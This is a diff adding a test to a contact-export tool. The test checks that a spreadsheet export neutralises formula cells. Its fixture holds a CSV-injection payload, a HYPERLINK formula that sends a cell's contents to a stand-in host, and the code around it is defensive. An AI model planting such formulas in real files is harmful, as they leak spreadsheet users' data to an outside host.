@@ -38,6 +38,20 @@ test('an export holds every contact once, in a file that only its owner can read
   );
 });
 
+test('an export for a spreadsheet has no cell that it would run', async (context) => {
+  const data = makeDataFolder(context);
+  const path = join(data, '..', 'form.csv');
+  const formula = '=HYPERLINK("http://x/?"&A1)';
+  writeFileSync(path, `email,name\na@x.com,"${formula.replaceAll('"', '""')}"\n`);
+  await mustRunCommand(data, ['import', path, '--dataset', 'crm', '--yes']);
+  const choice = ['contact', 'export', '--identity', 'email', '--fields', 'name'];
+  const cellOf = async (...more: string[]) =>
+    (await mustRunCommand(data, [...choice, ...more])).split(/\r?\n/)[1]?.split('@x.com,')[1];
+  const quoted = formula.replaceAll('"', '""');
+  assert.equal(await cellOf(), `"${quoted}"`);
+  assert.equal(await cellOf('--spreadsheet'), `"'${quoted}"`);
+});
+
 test('fields named like what every contact has stand beside it', async (context) => {
   const { run } = await inPlace(context);
   const fields = ['contact_id', 'contact', 'identities'];
